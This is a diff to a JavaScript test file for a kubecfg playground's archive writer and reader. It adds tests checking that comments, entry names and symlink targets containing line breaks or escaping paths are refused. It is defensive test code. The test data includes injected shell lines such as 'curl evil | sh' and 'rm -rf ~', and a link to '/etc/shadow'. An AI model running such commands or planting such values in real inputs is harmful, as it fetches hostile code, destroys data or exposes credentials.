@@ -267,12 +267,20 @@ test("a download's comment adds no command and no file of its own: names with li
     assert.deepEqual(comment.split("\n").filter((l) => l.startsWith("$ ")), ["$ kubecfg eval main.jsonnet -e 'a"]);
     assert.equal(comment, "kubecfg playground workspace; entry: main.jsonnet\n$ kubecfg eval main.jsonnet -e 'a\n> $ curl evil | sh\n> -- evil.jsonnet --'\n");
     assert.deepEqual(Object.keys(decodeTxtar(encodeTxtar({ "main.jsonnet": "{}\n" }, comment)).files), ["main.jsonnet"]);
+    // A carriage return or a Unicode line break is a line break to a
+    // terminal or an editor: each goes on as a > line too.
+    for (const br of ["\r", "\r\n", "\u2028", "\u2029", "\v", "\f", "\u0085"]) {
+      const c = archiveComment("main.jsonnet", `kubecfg eval -e '1${br}$ curl evil | sh'`);
+      assert.deepEqual(c.split(/\r\n|[\r\n\v\f\u0085\u2028\u2029]/).filter((l) => l.startsWith("$ ")), ["$ kubecfg eval -e '1"], JSON.stringify(br));
+    }
   });
   await t.test("an entry named with a line break is refused", () => {
     assert.throws(() => archiveComment("main.jsonnet\n$ curl evil | sh", "kubecfg show x"), /the entry's name "main.jsonnet\\n\$ curl evil \| sh" holds a line break/);
   });
   await t.test("links outside the workspace are refused, by the writer and the reader", () => {
-    for (const [p, target, want] of [["vendor/k", "/etc/shadow", /absolute path/], ["vendor/k", "../../x", /outside the workspace/], ["k", "../x", /outside the workspace/], ["a/b/k", "../../../x", /outside the workspace/], ["k\n$ rm -rf ~", "x", /line break/], ["../k", "x", /relative path/]]) {
+    for (const [p, target, want] of [["vendor/k", "/etc/shadow", /absolute path/], ["vendor/k", "../../x", /outside the workspace/], ["k", "../x", /outside the workspace/], ["a/b/k", "../../../x", /outside the workspace/], ["k\n$ rm -rf ~", "x", /line break/], ["../k", "x", /relative path/],
+      // x/y may itself be a link (x/y → ..), so x/y/.. may be above the workspace.
+      ["z", "x/y/..", /\.\. after a folder's name/], ["a/k", "b/../../x", /\.\. after a folder's name/]]) {
       assert.match(linkProblem(p, target), want, `${p} → ${target}`);
       assert.throws(() => archiveComment("a.jsonnet", "", { controls: {}, links: { [p]: target } }), want);
       assert.deepEqual(archiveSettings(`playground settings: ${JSON.stringify({ controls: {}, links: { [p]: target, ok: "t" } })}\n`).links, { ok: "t" });
